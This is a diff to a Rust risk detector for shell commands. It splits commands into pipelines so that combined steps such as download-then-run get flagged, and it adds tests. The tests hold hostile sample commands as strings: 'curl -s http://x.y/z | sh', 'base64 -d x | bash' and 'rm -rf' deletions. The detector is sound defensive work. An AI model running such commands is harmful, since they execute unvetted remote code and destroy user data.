@@ -108,9 +108,15 @@ pub fn risks(command: &str) -> String {
             joined += &squeezed(next);
             number += 1;
         }
-        let parts = joined.split([';', '&', '|']).map(str::trim).filter(|part| !part.is_empty());
-        let mut risky: Vec<(&str, &'static str)> = parts.filter_map(|part| Some((part, of(part)?))).collect();
-        // The parts together may do what none does alone, such as running what was downloaded.
+        let mut risky: Vec<(&str, &'static str)> = Vec::new();
+        for pipeline in joined.split([';', '&']).map(str::trim) {
+            let parts = pipeline.split('|').map(str::trim).filter(|part| !part.is_empty());
+            let parts: Vec<_> = parts.filter_map(|part| Some((part, of(part)?))).collect();
+            // The parts together may do what none does alone, such as running what was downloaded.
+            let joint = of(pipeline).filter(|joint| parts.iter().all(|(_, why)| why != joint));
+            risky.extend(joint.map(|why| (pipeline, why)));
+            risky.extend(parts);
+        }
         let whole = of(&joined).filter(|whole| risky.iter().all(|(_, why)| why != whole));
         risky.extend(whole.map(|why| (joined.as_str(), why)));
         found.extend(risky.into_iter().map(|(part, why)| (format!("line {first}: {}", cut(part)), why)));
@@ -272,6 +278,8 @@ mod tests {
         }
         let both = risks("rm -rf build && curl -s http://x.y/z | sh");
         assert!(both.contains("rm -rf build: ") && both.lines().count() == 2, "{both}");
+        let both = risks("curl -s http://x.y/z | sh; base64 -d x | bash");
+        assert_eq!(both.lines().count(), 2, "{both}");
         let many = "rm -rf ~/a\n".repeat(30);
         assert!(risks(&many).ends_with("look at 20 more parts of the command\n"));
     }
